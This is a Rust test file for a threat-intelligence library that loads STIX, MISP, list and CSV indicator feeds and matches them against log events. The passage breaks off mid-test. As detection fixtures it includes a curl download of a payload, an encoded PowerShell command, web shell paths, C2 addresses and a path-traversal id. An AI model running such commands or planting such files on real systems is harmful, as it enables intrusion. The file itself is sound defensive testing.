//! Feed loading and matching: STIX 2.1 bundle and MISP event round trips,
//! lists and CSV, validity windows, hostile input.
#![allow(clippy::unwrap_used, reason = "test code may unwrap")]

use kahu_event::{Event, Location, Provenance, Value, parse_timestamp};
use kahu_finding::{FindingKind, Level};
use kahu_intel::{IocSet, IocType, IssueKind, LoadReport};
use std::path::{Path, PathBuf};
use std::sync::Arc;

fn data(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(name)
}

fn ev_at(ts: Option<&str>, fields: &[(&str, Value)]) -> Event {
    let mut e = Event::new(Provenance::new(
        Arc::from("evidence/test.evtx"),
        Location::Record(7),
    ));
    e.timestamp = ts.and_then(parse_timestamp);
    e.host = Some(Arc::from("WEB01"));
    for (k, v) in fields {
        e.fields.insert(k, v.clone());
    }
    e
}

fn ev(fields: &[(&str, &str)]) -> Event {
    let f: Vec<(&str, Value)> = fields.iter().map(|(k, v)| (*k, Value::str(v))).collect();
    ev_at(Some("2024-03-01T10:00:00Z"), &f)
}

fn hits(set: &IocSet, e: &Event) -> Vec<String> {
    let mut out = Vec::new();
    set.match_event(e, &mut out);
    let mut ids: Vec<String> = out
        .iter()
        .map(|m| set.indicators()[m.indicator].id().to_string())
        .collect();
    ids.sort();
    ids
}

/// Event fields and the indicator numbers expected to match.
type Case<'a> = (Vec<(&'a str, &'a str)>, Vec<u32>);

fn sid(n: u32) -> String {
    format!("indicator--00000000-0000-4000-8000-{n:012}")
}

fn load_stix() -> (IocSet, LoadReport) {
    let mut set = IocSet::new();
    let r = set.load_path(&data("bundle.json")).expect("bundle loads");
    (set, r)
}

/// Every supported pattern kind fires on an event built for it, and only
/// that indicator (plus the ones the same value legitimately implies).
#[test]
fn stix_every_supported_pattern_fires() {
    let (set, r) = load_stix();
    let cases: Vec<Case> = vec![
        (vec![("DestinationIp", "203.0.113.10")], vec![1]),
        (vec![("SourceIp", "198.51.100.77")], vec![2]),
        (vec![("DestinationIp", "2001:DB8:0:0::BAD")], vec![3]),
        (vec![("QueryName", "a.b.Evil.Example.")], vec![4]),
        (
            vec![("url", "HTTP://EVIL.example:80/gate.php/")],
            vec![4, 5],
        ),
        (
            vec![(
                "Hashes",
                "SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=00000000000000000000000000000001",
            )],
            vec![6],
        ),
        (
            vec![("Hashes", "MD5=098F6BCD4621D373CADE4E832627B4F6")],
            vec![7],
        ),
        (
            vec![("Hashes", "SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3")],
            vec![8],
        ),
        (vec![("Image", r"C:\inetpub\wwwroot\Shell.ASPX")], vec![9]),
        (vec![("sender", "Phish@Bad.Example")], vec![10]),
        (
            vec![("DestinationIp", "192.0.2.66"), ("DestinationPort", "8443")],
            vec![11],
        ),
        (
            vec![("cs(User-Agent)", "Mozilla/5.0+(kahu-test-agent)")],
            vec![12],
        ),
        (
            vec![("CommandLine", "PowerShell.exe -nop -enc SQBFAFgA")],
            vec![13],
        ),
        (
            vec![(
                "TargetObject",
                r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\updater",
            )],
            vec![14],
        ),
        (
            vec![("ssl.cert_sha1", "d1f0c2b7e4a5968778695a4b3c2d1e0f9a8b7c6d")],
            vec![15],
        ),
        (
            vec![("url", "https://victim.example/uploads/x/cmd.aspx")],
            vec![16],
        ),
        (vec![("QueryName", "b.bad.example")], vec![17]),
        (vec![("CommandLine", "whoami /all")], vec![18]),
        (vec![("QueryName", "exfil.example")], vec![18]),
        (vec![("TargetFilename", r"C:\x\evil.dll")], vec![24]),
        (
            vec![
                ("DestinationIp", "203.0.113.99"),
                ("DestinationPort", "65001"),
            ],
            vec![25],
        ),
    ];
    for (fields, want) in cases {
        let got = hits(&set, &ev(&fields));
        let want: Vec<String> = want.into_iter().map(sid).collect();
        assert_eq!(got, want, "event {fields:?}");
    }
    // Numeric leaves: ECS `source.as.number`.
    let e = ev_at(
        Some("2024-03-01T10:00:00Z"),
        &[("source.as.number", Value::Int(64500))],
    );
    assert_eq!(hits(&set, &e), vec![sid(23)]);
    assert_eq!(r.loaded, 22, "{:#?}", r.issues);
}

#[test]
fn stix_negatives_and_conjunctions() {
    let (set, _) = load_stix();
    for fields in [
        vec![("QueryName", "notevil.example")],
        vec![("QueryName", "evil.example.com")],
        vec![("DestinationIp", "198.51.101.1")],
        vec![("DestinationIp", "192.0.2.66"), ("DestinationPort", "80")],
        vec![
            ("DestinationIp", "203.0.113.99"),
            ("DestinationPort", "443"),
        ],
        vec![("url", "https://victim.example/uploads/x/cmd.aspx.txt")],
        vec![("TargetFilename", r"C:\x\good.dll")],
        vec![("CommandLine", "powershell -command Get-Date")],
        vec![("Hashes", "MD5=098F6BCD4621D373CADE4E832627B4F7")],
        vec![("DestinationIp", "192.0.2.200")],
    ] {
        assert!(
            hits(&set, &ev(&fields)).is_empty(),
            "{fields:?} must not match"
        );
    }
    // A port test with no port field in the event matches, with a caveat.
    let mut out = Vec::new();
    set.match_event(&ev(&[("DestinationIp", "192.0.2.66")]), &mut out);
    assert_eq!(out.len(), 1);
    assert!(
        out[0]
            .note
            .as_deref()
            .unwrap_or("")
            .contains("port not checked")
    );
}

#[test]
fn stix_unsupported_and_downgrades_are_reported() {
    let (_, r) = load_stix();
    let find = |n: u32| {
        r.issues
            .iter()
            .find(|i| i.indicator.as_deref() == Some(sid(n).as_str()))
    };
    let i20 = find(20).expect("mutex reported");
    assert_eq!(i20.kind, IssueKind::Unsupported);
    assert!(i20.reason.contains("mutex:name"), "{i20}");
    let i21 = find(21).expect("sigma pattern reported");
    assert_eq!(i21.kind, IssueKind::Unsupported);
    assert!(i21.reason.contains("pattern_type"), "{i21}");
    let i22 = find(22).expect("broken pattern reported");
    assert_eq!(i22.kind, IssueKind::Invalid);
    assert!(i22.reason.contains("byte"), "{i22}");
    let i18 = find(18).expect("FOLLOWEDBY downgrade reported");
    assert_eq!(i18.kind, IssueKind::Downgraded);
    assert!(
        i18.reason.contains("FOLLOWEDBY") && i18.reason.contains("WITHIN"),
        "{i18}"
    );
    assert!(
        r.issues
            .iter()
            .all(|i| *i.source == data("bundle.json").display().to_string())
    );
}

#[test]
fn a_negation_only_pattern_is_refused_not_matched_on_every_other_value() {
    // `!=` holds for every address but one: loaded, it flagged (and put on
    // the IP block list) every other address, under the excluded one's name.
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("neq.json");
    let ind = |n: u32, pattern: &str| {
        format!(
            r#"{{"type":"indicator","spec_version":"2.1","id":"{}","created":"2024-01-01T00:00:00Z","modified":"2024-01-01T00:00:00Z","name":"not the C2","pattern":"{pattern}","pattern_type":"stix","valid_from":"2024-01-01T00:00:00Z"}}"#,
            sid(n)
        )
    };
    std::fs::write(
        &feed,
        format!(
            r#"{{"type":"bundle","id":"bundle--00000000-0000-4000-8000-000000000001","objects":[{},{},{}]}}"#,
            ind(1, "[ipv4-addr:value != '203.0.113.77']"),
            ind(2, "[domain-name:value NOT = 'good.example']"),
            ind(3, "[ipv4-addr:value = '203.0.113.77'] OR [ipv4-addr:value != '198.51.100.1']"),
        ),
    )
    .unwrap();
    let mut set = IocSet::new();
    let r = set.load_path(&feed).unwrap();
    for n in [1, 2] {
        let issue = r
            .issues
            .iter()
            .find(|i| i.indicator.as_deref() == Some(sid(n).as_str()))
            .unwrap_or_else(|| panic!("indicator {n} not reported: {:#?}", r.issues));
        assert_eq!(issue.kind, IssueKind::Unsupported, "{issue}");
        assert!(issue.reason.contains("negations only"), "{issue}");
    }
    // The OR keeps its positive half and says it dropped the other.
    let i3 = r
        .issues
        .iter()
        .find(|i| i.indicator.as_deref() == Some(sid(3).as_str()))
        .expect("downgrade reported");
    assert_eq!(i3.kind, IssueKind::Downgraded, "{i3}");
    assert!(
        hits(&set, &ev(&[("DestinationIp", "198.51.100.9")])).is_empty(),
        "another address matched a negation"
    );
    assert!(hits(&set, &ev(&[("QueryName", "www.example.org")])).is_empty());
    assert_eq!(
        hits(&set, &ev(&[("DestinationIp", "203.0.113.77")])),
        [sid(3)]
    );
}

#[test]
fn stix_validity_window_and_context() {
    let (mut set, r) = load_stix();
    let f = [("DestinationIp", Value::str("203.0.113.77"))];
    // Outside the window: matched by default, with a note saying so.
    for (t, why) in [
        ("2024-03-01T00:00:00Z", "after valid_until"),
        ("2020-12-31T23:59:59Z", "predates valid_from"),
    ] {
        let mut out = Vec::new();
        set.match_event(&ev_at(Some(t), &f), &mut out);
        assert_eq!(out.len(), 1, "{t}");
        let note = out[0].note.as_deref().unwrap_or("");
        assert!(
            note.contains("outside the indicator's validity window") && note.contains(why),
            "{note}"
        );
    }
    // --ioc-strict-validity: nothing outside the window.
    set.set_strict_validity(true);
    assert!(
        hits(&set, &ev_at(Some("2024-03-01T00:00:00Z"), &f)).is_empty(),
        "after valid_until"
    );
    assert!(
        hits(&set, &ev_at(Some("2020-12-31T23:59:59Z"), &f)).is_empty(),
        "before valid_from"
    );
    set.set_strict_validity(false);
    assert_eq!(
        hits(&set, &ev_at(Some("2021-03-01T00:00:00Z"), &f)),
        vec![sid(19)]
    );
    let mut out = Vec::new();
    set.match_event(&ev_at(None, &f), &mut out);
    assert_eq!(out.len(), 1);
    assert!(
        out[0]
            .note
            .as_deref()
            .unwrap_or("")
            .contains("validity window not checked")
    );
    // The bare SCO is context: silent by default, informational when asked.
    assert_eq!(r.context, 1);
    let e = ev(&[("DestinationIp", "192.0.2.200")]);
    assert!(hits(&set, &e).is_empty());
    set.set_match_context(true);
    let f = set.findings_for(&e);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].level, Level::Informational);
}

#[test]
fn stix_findings_carry_attack_ids_and_provenance() {
    let (set, _) = load_stix();
    let e = ev(&[
        ("Image", r"C:\inetpub\wwwroot\shell.aspx"),
        ("CommandLine", "w3wp.exe"),
    ]);
    let f = set.findings_for(&e);
    assert_eq!(f.len(), 1);
    let f = &f[0];
    assert_eq!(f.kind, FindingKind::Ioc);
    assert_eq!(&*f.rule_id, sid(9));
    assert!(f.title.contains("China Chopper web shell"), "{}", f.title);
    assert_eq!(f.software, vec![Arc::<str>::from("S0020")]);
    assert_eq!(f.groups, vec![Arc::<str>::from("G0065")]);
    assert_eq!(f.techniques, vec![Arc::<str>::from("T1505.003")]);
    // File names are weak evidence; confidence 90 raises it one step.
    assert_eq!(f.level, Level::Medium);
    assert_eq!(f.provenance, e.provenance);
    assert_eq!(&*f.fields[0].0, "Image");
    assert!(
        f.fields
            .iter()
            .any(|(k, v)| &**k == "ioc" && v == "filename shell.aspx")
    );
    assert!(f.fields.iter().any(|(k, _)| &**k == "CommandLine"));
}

fn summary(set: &IocSet) -> Vec<String> {
    let mut v: Vec<String> = set
        .indicators()
        .iter()
        .map(|i| {
            let m = &i.meta;
            format!(
                "{}|{:?}|{}|{}|{}|{:?}|{:?}|{:?}|{:?}|{:?}|{:?}",
                // Bare observables (`ipv4-addr--…`) become indicators on
                // export and get a new, stable id; all others keep theirs.
                if i.id().starts_with("indicator--00000000-") {
                    i.id().to_string()
                } else {
                    String::new()
                },
                i.ioc_type,
                i.value,
                i.stix_pattern(),
                i.detect,
                m.valid_from,
                m.valid_until,
                m.confidence,
                m.techniques,
                m.software,
                m.groups
            )
        })
        .collect();
    v.sort();
    v
}

#[test]
fn stix_round_trip_through_export() {
    let (set, _) = load_stix();
    let bundle = serde_json::to_vec(&set.to_stix_bundle()).unwrap();
    let mut again = IocSet::new();
    let r = again.load_bytes(&bundle, "export.json").unwrap();
    assert!(
        r.issues.iter().all(|i| i.kind == IssueKind::Downgraded),
        "{:#?}",
        r.issues
    );
    assert_eq!(again.len(), set.len());
    assert_eq!(summary(&again), summary(&set));
}

#[test]
fn defanged_misp_values_are_refanged_and_match() {
    // A defanged URL attribute loaded without a word and never matched
    // (the same value in a plain list was refanged and matched).
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("misp.json");
    let attr = |n: u32, ty: &str, v: &str| {
        format!(
            r#"{{"uuid":"5e1f0000-0000-4000-8000-{n:012}","type":"{ty}","category":"Network activity","value":"{v}","to_ids":true}}"#
        )
    };
    std::fs::write(
        &feed,
        format!(
            r#"{{"Event":{{"uuid":"5e1f0000-0000-4000-8000-000000000000","info":"defanged","Attribute":[{},{},{}]}}}}"#,
            attr(1, "url", "hxxp://bad[.]example[.]net/payload.bin"),
            attr(2, "domain", "sub.bad[.]example[.]org"),
            attr(3, "ip-dst", "203.0.113[.]77"),
        ),
    )
    .unwrap();
    let mut set = IocSet::new();
    let r = set.load_path(&feed).unwrap();
    assert_eq!(r.loaded, 3, "{:#?}", r.issues);
    assert!(r.issues.is_empty(), "{:#?}", r.issues);
    let a = |n: u32| format!("5e1f0000-0000-4000-8000-{n:012}");
    assert_eq!(
        hits(
            &set,
            &ev(&[("CommandLine", "curl http://bad.example.net/payload.bin")])
        ),
        [a(1)]
    );
    assert_eq!(
        hits(&set, &ev(&[("QueryName", "sub.bad.example.org")])),
        [a(2)]
    );
    assert_eq!(
        hits(&set, &ev(&[("DestinationIp", "203.0.113.77")])),
        [a(3)]
    );
}

#[test]
fn misp_event_loads_and_matches() {
    let mut set = IocSet::new();
    let r = set.load_path(&data("misp_event.json")).unwrap();
    assert_eq!(r.loaded, 17, "{:#?}", r.issues);
    assert_eq!(r.context, 2);
    let bad = r
        .issues
        .iter()
        .find(|i| i.kind == IssueKind::Invalid)
        .expect("bad ip reported");
    assert!(
        bad.indicator.as_deref().unwrap().ends_with("000000000019")
            && bad.reason.contains("not-an-ip")
    );
    assert!(
        r.issues
            .iter()
            .any(|i| i.kind == IssueKind::Unsupported && i.reason.contains("`mutex`"))
    );
    let a = |n: u32| format!("5e1f0000-0000-4000-8000-{n:012}");
    let (ones, twos) = ("1".repeat(64), "2".repeat(64));
    let cases: Vec<Case> = vec![
        (vec![("DestinationIp", "203.0.113.20")], vec![1]),
        (
            vec![("DestinationIp", "192.0.2.70"), ("DestinationPort", "4444")],
            vec![2],
        ),
        (
            vec![("DestinationIp", "192.0.2.70"), ("DestinationPort", "80")],
            vec![],
        ),
        (vec![("QueryName", "www.misp-evil.example")], vec![3]),
        (vec![("QueryName", "c2.misp-bad.example")], vec![4]),
        (vec![("query", "dual.example")], vec![5]),
        (vec![("id.resp_h", "198.18.0.5")], vec![5]),
        (
            vec![("url", "https://misp-evil.example/payload.bin")],
            vec![3, 6],
        ),
        (vec![("cs-uri-stem", "/owa/auth/errorEE.aspx")], vec![7]),
        (vec![("md5", "D41D8CD98F00B204E9800998ECF8427E")], vec![8]),
        (
            vec![("Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709")],
            vec![9],
        ),
        (
            vec![(
                "Hashes",
                "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
            )],
            vec![10],
        ),
        (vec![("ImageLoaded", r"C:\ProgramData\PlugX.dll")], vec![11]),
        (vec![("sha256", &ones)], vec![12]),
        (vec![("from", "<spear@misp-bad.example>")], vec![13]),
        (
            vec![(
                "cs(User-Agent)",
                "Mozilla/4.0 (compatible; MSIE 6.0; PlugX)",
            )],
            vec![14],
        ),
        (
            vec![("TargetObject", r"HKLM\SOFTWARE\Classes\CLSID\{BAD}")],
            vec![16],
        ),
        (vec![("DestinationIp", "198.18.0.99")], vec![]),
        (vec![("DestinationIp", "203.0.113.21")], vec![]),
        (vec![("sha256", &twos)], vec![30]),
    ];
    for (fields, want) in cases {
        let mut want: Vec<String> = want.into_iter().map(a).collect();
        want.sort();
        assert_eq!(hits(&set, &ev(&fields)), want, "event {fields:?}");
    }
    let e = ev_at(None, &[("destination.as.number", Value::Int(64511))]);
    assert_eq!(hits(&set, &e), vec![a(15)]);
    // Galaxy tags → ATT&CK ids on every attribute; attribute tags add more.
    let f = set.findings_for(&ev(&[("ImageLoaded", r"C:\ProgramData\plugx.dll")]));
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].groups, vec![Arc::<str>::from("G0065")]);
    assert!(
        f[0].software.contains(&Arc::from("S0013")) && f[0].software.contains(&Arc::from("S0357"))
    );
    assert!(
        f[0].techniques.contains(&Arc::from("T1505.003"))
            && f[0].techniques.contains(&Arc::from("T1574.002"))
    );
    assert!(f[0].title.contains("PlugX campaign"), "{}", f[0].title);
}

#[test]
fn misp_round_trip_through_stix() {
    let mut set = IocSet::new();
    set.load_path(&data("misp_event.json")).unwrap();
    let bundle = serde_json::to_vec(&set.to_stix_bundle()).unwrap();
    let mut again = IocSet::new();
    let r = again.load_bytes(&bundle, "export.json").unwrap();
    assert_eq!(again.len(), set.len(), "{:#?}", r.issues);
    // Same behaviour on the same events (ids differ: MISP uuids become STIX ids).
    for fields in [
        vec![("DestinationIp", "192.0.2.70"), ("DestinationPort", "4444")],
        vec![("DestinationIp", "192.0.2.70"), ("DestinationPort", "80")],
        vec![("query", "dual.example")],
        vec![("Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709")],
        vec![("TargetObject", r"HKLM\SOFTWARE\Classes\CLSID\{BAD}")],
        vec![("DestinationIp", "198.18.0.99")],
    ] {
        let e = ev(&fields);
        assert_eq!(hits(&set, &e).len(), hits(&again, &e).len(), "{fields:?}");
    }
}

#[test]
fn misp_feed_directory() {
    let mut set = IocSet::new();
    let r = set.load_path(&data("misp-feed")).unwrap();
    assert_eq!(r.loaded, 1);
    assert!(
        r.issues
            .iter()
            .any(|i| i.indicator.as_deref() == Some("../../escape")
                && i.reason.contains("not a uuid"))
    );
    assert!(
        r.issues
            .iter()
            .any(|i| i.indicator.as_deref() == Some("6a1f0000-0000-4000-8000-000000000002"))
    );
    assert_eq!(
        hits(&set, &ev(&[("QueryName", "x.feed-evil.example")])).len(),
        1
    );
}

#[test]
fn directory_of_feeds_and_downgraded_level() {
    let mut set = IocSet::new();
    let r = set.load_path(&data("")).unwrap();
    assert_eq!(
        r.loaded,
        22 + 17,
        "bundle.json + misp_event.json: {:#?}",
        r.issues
    );
    // FOLLOWEDBY evaluated per event: one level below a plain pattern.
    let f = set.findings_for(&ev(&[("CommandLine", "whoami /all")]));
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].level, Level::Medium);
    assert!(
        f.iter()
            .all(|f| f.fields.iter().any(|(k, _)| &**k == "ioc_downgrade"))
    );
}

#[test]
fn plain_lists_with_comments_and_defanging() {
    let text = "# partner list\n\
                hxxp://evil[.]example/a/  # phishing\n\
                10.9.8.7\n\
                172.16.0.0/12\n\
                \n\
                bad(.)example\n\
                this is not an indicator\n\
                // other comment\n\
                E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855\n\
                webshell.jsp\n";
    let mut set = IocSet::new();
    let r = set.load_bytes(text.as_bytes(), "list.txt").unwrap();
    assert_eq!(r.loaded, 6, "{:#?}", r.issues);
    assert_eq!(r.issues.len(), 1);
    assert_eq!(r.issues[0].line, Some(7));
    let types: Vec<IocType> = set.indicators().iter().map(|i| i.ioc_type).collect();
    assert_eq!(types[0], IocType::Url);
    assert_eq!(types[2], IocType::Cidr);
    assert_eq!(set.indicators()[1].id(), "list.txt:3");
    assert_eq!(
        hits(&set, &ev(&[("url", "http://evil.example/a")])).len(),
        1
    );
    assert_eq!(
        hits(&set, &ev(&[("DestinationIp", "172.31.255.1")])),
        vec!["list.txt:4"]
    );
    assert_eq!(hits(&set, &ev(&[("DestinationIp", "172.32.0.1")])).len(), 0);
    assert_eq!(
        hits(
            &set,
            &ev(&[("TargetFilename", "/var/www/html/WebShell.jsp")])
        ),
        vec!["list.txt:10"]
    );
}

#[test]
fn csv_with_header_without_header_and_typed_column() {
    let mut set = IocSet::new();
    let r = set
        .load_bytes(
            b"indicator,type,description,confidence\n\
              203.0.113.50,ip-dst,Cobalt Strike team server,90\n\
              \"evil,comma.example\",domain,bad value,50\n\
              update-check.example,hostname,PlugX C2,\n\
              C:\\x,unknown-type,?,\n",
            "feed.csv",
        )
        .unwrap();
    assert_eq!(r.loaded, 2, "{:#?}", r.issues);
    assert_eq!(r.issues.len(), 2);
    assert_eq!(r.issues[0].line, Some(3));
    let f = set.findings_for(&ev(&[("DestinationIp", "203.0.113.50")]));
    assert_eq!(f[0].software, vec![Arc::<str>::from("S0154")]);
    assert_eq!(f[0].level, Level::High, "IP medium raised by confidence 90");
    assert_eq!(
        hits(&set, &ev(&[("QueryName", "update-check.example")])).len(),
        1
    );

    let mut set = IocSet::new();
    let r = set.load_bytes(b"first_seen,sha256\n2024-01-01,AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n", "h.csv").unwrap();
    assert_eq!(r.loaded, 1, "{:#?}", r.issues);
    assert_eq!(
        set.indicators()[0].ioc_type,
        IocType::Hash(kahu_intel::HashAlg::Sha256)
    );

    let mut set = IocSet::new();
    let r = set
        .load_bytes(
            b"2024-01-02,evil-noheader.example,c2\n2024-01-03,198.51.100.9,scanner\n",
            "nh.csv",
        )
        .unwrap();
    assert_eq!(r.loaded, 2, "{:#?}", r.issues);
    assert_eq!(
        set.indicators()[0].meta.description.as_deref(),
        Some("2024-01-02 | c2")
    );
}

/// MISP's own CSV export (`uuid,event_id,category,type,value,comment,to_ids,…`).
#[test]
fn misp_csv_export() {
    let csv = b"uuid,event_id,category,type,value,comment,to_ids,date,object_relation\n\
        aaaa0000-0000-4000-8000-000000000001,12,Network activity,ip-dst|port,192.0.2.90|8080,C2,1,1700000000,\n\
        aaaa0000-0000-4000-8000-000000000002,12,Payload delivery,filename|md5,drop.exe|0123456789abcdef0123456789abcdef,,1,1700000000,\n\
        aaaa0000-0000-4000-8000-000000000003,12,Network activity,domain,misp-csv.example,,0,1700000000,\n";
    let mut set = IocSet::new();
    let r = set.load_bytes(csv, "misp-export.csv").unwrap();
    assert_eq!((r.loaded, r.context), (2, 1), "{:#?}", r.issues);
    let id = |n: u32| format!("aaaa0000-0000-4000-8000-{n:012}");
    let e = ev(&[("DestinationIp", "192.0.2.90"), ("DestinationPort", "8080")]);
    assert_eq!(hits(&set, &e), vec![id(1)]);
    let e = ev(&[("DestinationIp", "192.0.2.90"), ("DestinationPort", "443")]);
    assert!(hits(&set, &e).is_empty());
    assert_eq!(
        hits(
            &set,
            &ev(&[("Hashes", "MD5=0123456789ABCDEF0123456789ABCDEF")])
        ),
        vec![id(2)]
    );
    assert!(
        hits(&set, &ev(&[("QueryName", "misp-csv.example")])).is_empty(),
        "to_ids=0 is context"
    );
}

#[test]
fn hostile_feeds_fail_with_context_never_panic() {
    let mut set = IocSet::new();
    let err = set
        .load_bytes(
            b"{\"type\": \"bundle\",\n \"objects\": [ {\"type\": ",
            "bad.json",
        )
        .unwrap_err();
    let msg = err.to_string();
    assert!(msg.starts_with("bad.json:2:"), "{msg}");
    // One malformed object does not sink the bundle.
    let b = br#"{"type":"bundle","objects":[
        {"type":"indicator","id":"indicator--1","labels":5,"pattern":"[ipv4-addr:value='1.2.3.4']"},
        {"type":"indicator","id":"indicator--2","pattern":"[ipv4-addr:value='1.2.3.5']","valid_from":"2020-01-01T00:00:00Z"},
        {"type":"indicator","id":"indicator--3","pattern":"[ipv4-addr:value='1.2.3.6']","valid_from":"yesterday"},
        {"type":"indicator","id":"indicator--4","pattern":"[ipv4-addr:value='1.2.3.7']","valid_from":"2022-01-01T00:00:00Z","valid_until":"2021-01-01T00:00:00Z"}
    ]}"#;
    let r = set.load_bytes(b, "mixed.json").unwrap();
    assert_eq!(r.loaded, 1);
    let ids: Vec<_> = r
        .issues
        .iter()
        .map(|i| i.indicator.clone().unwrap_or_default())
        .collect();
    assert_eq!(ids, vec!["indicator--1", "indicator--3", "indicator--4"]);
    // Deep nesting is refused by the JSON parser, not by the stack.
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    assert!(set.load_bytes(deep.as_bytes(), "deep.json").is_err());
    // Huge lines and binary garbage in a list.
    let mut text = "x".repeat(200_000);
    text.push_str("\n\u{0}\u{1}\u{fffd}garbage\n10.1.1.1\n");
    let r = set.load_bytes(text.as_bytes(), "huge.txt").unwrap();
    assert_eq!(r.loaded, 1);
    assert!(
        r.issues
            .iter()
            .any(|i| i.line == Some(1) && i.reason.contains("longer"))
    );
    let bin: Vec<u8> = (0..100_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    let _ = set.load_bytes(&bin, "random.bin");
    let mut misp = IocSet::new();
    assert!(
        misp.load_bytes(br#"{"Event": {"Attribute": 5}}"#, "m.json")
            .is_ok()
    );
    assert!(
        misp.load_bytes(
            br#"{"Event": {"Attribute": [{"type": 1, "value": []}]}}"#,
            "m2.json"
        )
        .is_ok()
    );
    // A hostile event value is bounded too.
    let mut set = IocSet::new();
    set.load_bytes(b"evil.example\n", "l.txt").unwrap();
    let big = format!("{} evil.example", "a.".repeat(2_000_000));
    assert!(
        hits(&set, &ev(&[("CommandLine", big.as_str())])).is_empty(),
        "text past the 1 MiB scan limit is not examined"
    );
    let repeated = "evil.example ".repeat(50_000);
    let mut out = Vec::new();
    set.match_event(&ev(&[("CommandLine", repeated.as_str())]), &mut out);
    assert_eq!(out.len(), 1, "one match per indicator per event");
}

mod props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

        #[test]
        fn pattern_parser_never_panics(s in "\\PC{0,200}") {
            let _ = kahu_intel::pattern::parse(&s);
        }

        #[test]
        fn pattern_parser_on_pattern_like_text(s in "[\\[\\]() ,=!<>'a-z0-9:._*-]{0,120}|(AND|OR|NOT|IN|LIKE|MATCHES|FOLLOWEDBY|WITHIN|SECONDS|t'|h'|b'|\\[|\\]|'|ipv4-addr:value| ){0,40}") {
            if let Ok(p) = kahu_intel::pattern::parse(&s) {
                prop_assert!(!p.alternatives.is_empty());
            }
        }

        #[test]
        fn list_loader_and_matcher_never_panic(s in "\\PC{0,300}") {
            let mut set = IocSet::new();
            let _ = set.load_bytes(s.as_bytes(), "p.txt");
            let _ = set.load_bytes(format!("[{{\"type\":\"indicator\",\"id\":\"i\",\"pattern\":{:?}}}]", s).as_bytes(), "p.json");
            let _ = hits(&set, &ev(&[("CommandLine", s.as_str())]));
        }
    }
}

/// The committed alias table agrees with ATT&CK: every id is live
/// software there, and the names the brief lists map to their ids.
#[test]
fn software_aliases_agree_with_attack() {
    let shared = std::env::var("KAHU_SHARED")
        .map(PathBuf::from)
        .unwrap_or_else(|_| PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared")));
    let path = shared.join("attack/enterprise-attack.json");
    let Ok(bytes) = std::fs::read(&path) else {
        eprintln!("SKIP: ATT&CK bundle not found at {}", path.display());
        return;
    };
    let v: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    let mut live = std::collections::HashMap::new();
    for o in v["objects"].as_array().unwrap() {
        let ty = o["type"].as_str().unwrap_or("");
        if !matches!(ty, "malware" | "tool")
            || o["revoked"] == true
            || o["x_mitre_deprecated"] == true
        {
            continue;
        }
        for r in o["external_references"].as_array().into_iter().flatten() {
            if r["source_name"] == "mitre-attack"
                && let Some(id) = r["external_id"].as_str()
            {
                live.insert(id.to_string(), o["name"].as_str().unwrap_or("").to_string());
            }
        }
    }
    let table = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/data/software-aliases.tsv"
    ))
    .unwrap();
    let mut rows = 0;
    for line in table.lines().filter(|l| !l.starts_with('#')) {
        let (_, id) = line.split_once('\t').expect("name<TAB>id");
        assert!(live.contains_key(id), "{line}: not live ATT&CK software");
        rows += 1;
    }
    assert!(rows > 500, "{rows} rows");
    for (name, id) in [
        ("China Chopper", "S0020"),
        ("Mimikatz", "S0002"),
        ("Cobalt Strike", "S0154"),
        ("PlugX", "S0013"),
        ("Impacket", "S0357"),
        ("PsExec", "S0029"),
    ] {
        assert_eq!(
            live.get(id).map(String::as_str),
            Some(name),
            "ATT&CK names {id}"
        );
        assert_eq!(
            kahu_intel::software_ids_in(name),
            vec![Arc::<str>::from(id)],
            "{name}"
        );
    }
}

#[test]
fn tlp_markings_follow_each_indicator() {
    // A marking defined in the bundle, a well-known id without its
    // definition, an unmarked indicator, and a MISP-style label.
    let bundle = r#"{"type":"bundle","id":"bundle--1","objects":[
      {"type":"marking-definition","spec_version":"2.1","id":"marking-definition--aaaaaaaa-0000-4000-8000-000000000001",
       "created":"2022-10-01T00:00:00.000Z","name":"TLP:AMBER+STRICT","extensions":{}},
      {"type":"indicator","spec_version":"2.1","id":"indicator--00000000-0000-4000-8000-000000000001",
       "created":"2021-01-01T00:00:00Z","modified":"2021-01-01T00:00:00Z","valid_from":"2021-01-01T00:00:00Z",
       "pattern":"[ipv4-addr:value = '203.0.113.1']","pattern_type":"stix",
       "object_marking_refs":["marking-definition--aaaaaaaa-0000-4000-8000-000000000001",
                              "marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da"]},
      {"type":"indicator","spec_version":"2.1","id":"indicator--00000000-0000-4000-8000-000000000002",
       "created":"2021-01-01T00:00:00Z","modified":"2021-01-01T00:00:00Z","valid_from":"2021-01-01T00:00:00Z",
       "pattern":"[ipv4-addr:value = '203.0.113.2']","pattern_type":"stix",
       "object_marking_refs":["marking-definition--f88d31f6-486f-44da-b317-01333bde0b82"]},
      {"type":"indicator","spec_version":"2.1","id":"indicator--00000000-0000-4000-8000-000000000003",
       "created":"2021-01-01T00:00:00Z","modified":"2021-01-01T00:00:00Z","valid_from":"2021-01-01T00:00:00Z",
       "pattern":"[ipv4-addr:value = '203.0.113.3']","pattern_type":"stix"},
